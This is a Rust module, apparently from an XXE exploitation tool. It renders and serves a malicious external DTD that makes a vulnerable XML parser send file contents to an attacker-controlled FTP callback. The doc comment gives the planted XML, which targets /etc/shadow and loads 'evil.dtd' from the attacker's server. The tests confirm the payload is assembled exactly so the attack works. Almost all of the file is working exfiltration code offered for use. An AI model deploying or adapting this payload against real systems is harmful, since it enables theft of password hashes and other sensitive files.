//! The external-DTD fragment served to every HTTP client.
//!
//! The payload instructs a vulnerable XML parser to dial back to our FTP
//! port with the contents of `%file;` embedded in the URL path. The XML
//! document the operator plants on the target side looks like:
//!
//! ```text
//! <?xml version="1.0" encoding="UTF-8"?>
//! <!DOCTYPE data [
//!   <!ENTITY % file SYSTEM "file:///etc/shadow">
//!   <!ENTITY % dtd SYSTEM "http://x.x.x.x:8888/evil.dtd">
//!   %dtd;
//! ]>
//! <data>&send;</data>
//! ```

/// Pre-rendered bait payload and its full HTTP response.
///
/// Rendered exactly once at startup and immutable for the process lifetime;
/// connection tasks share it read-only.
pub struct BaitPayload {
    body: String,
    response: Vec<u8>,
}

impl BaitPayload {
    /// Substitutes the callback host and FTP port into the DTD template and
    /// pre-computes the wire response.
    ///
    /// `Content-length` must equal the exact byte length of the body; a
    /// malformed length truncates on the client side and defeats the attack.
    pub fn render(callback_host: &str, ftp_port: u16) -> Self {
        let body = format!(
            "<!ENTITY % all \"<!ENTITY send SYSTEM 'ftp://{}:{}/%file;'>\">\n%all;",
            callback_host, ftp_port
        );
        let response = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/xml\r\nContent-length: {}\r\n\r\n{}\r\n\r\n",
            body.len(),
            body
        )
        .into_bytes();
        Self { body, response }
    }

    pub fn body(&self) -> &str {
        &self.body
    }

    /// The complete HTTP response, headers included.
    pub fn response_bytes(&self) -> &[u8] {
        &self.response
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_body_substitutes_host_and_port_verbatim() {
        let payload = BaitPayload::render("203.0.113.5", 2121);
        assert_eq!(
            payload.body(),
            "<!ENTITY % all \"<!ENTITY send SYSTEM 'ftp://203.0.113.5:2121/%file;'>\">\n%all;"
        );
        assert!(payload.body().contains("ftp://203.0.113.5:2121/%file;"));
    }

    #[test]
    fn test_content_length_matches_body_bytes() {
        let payload = BaitPayload::render("exfil.example.net", 2100);
        let response = String::from_utf8(payload.response_bytes().to_vec()).unwrap();

        let header = response
            .lines()
            .find(|l| l.starts_with("Content-length:"))
            .expect("Content-length header present");
        let declared: usize = header["Content-length:".len()..].trim().parse().unwrap();
        assert_eq!(declared, payload.body().len());

        // The body sits between the blank line and the trailing CRLF pair.
        let body_start = response.find("\r\n\r\n").unwrap() + 4;
        let body = &response[body_start..response.len() - 4];
        assert_eq!(body, payload.body());
        assert_eq!(body.len(), declared);
    }

    #[test]
    fn test_response_is_bit_for_bit_stable() {
        let a = BaitPayload::render("10.0.0.1", 2121);
        let b = BaitPayload::render("10.0.0.1", 2121);
        assert_eq!(a.response_bytes(), b.response_bytes());
        assert!(a.response_bytes().starts_with(b"HTTP/1.1 200 OK\r\n"));
        assert!(a.response_bytes().ends_with(b"%all;\r\n\r\n"));
    }
}
